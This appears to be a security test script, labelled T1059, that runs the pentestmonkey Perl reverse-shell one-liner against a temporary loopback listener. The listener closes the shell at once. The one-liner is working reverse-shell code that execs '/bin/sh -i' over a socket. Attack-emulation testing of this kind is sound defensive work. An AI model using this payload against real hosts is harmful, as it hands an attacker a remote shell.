#!/bin/sh
# T1059 (perl), the pentestmonkey perl one-liner reverse shell against a loopback listener.
set -e
port=$((34000 + $$ % 10000))
ready=$(mktemp -u)
/usr/bin/python3 - "$port" "$ready" <<'PY' &
import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1); s.settimeout(10)
open(sys.argv[2], "w").close()
c, _ = s.accept(); c.sendall(b"exit\n"); time.sleep(1); c.close()
PY
listener=$!
i=0; until [ -e "$ready" ] || [ $i -ge 150 ]; do sleep 0.1; i=$((i + 1)); done
perl -e 'use Socket;$i="127.0.0.1";$p='"$port"';socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' 2>/dev/null || true
wait "$listener" || true
rm -f "$ready"
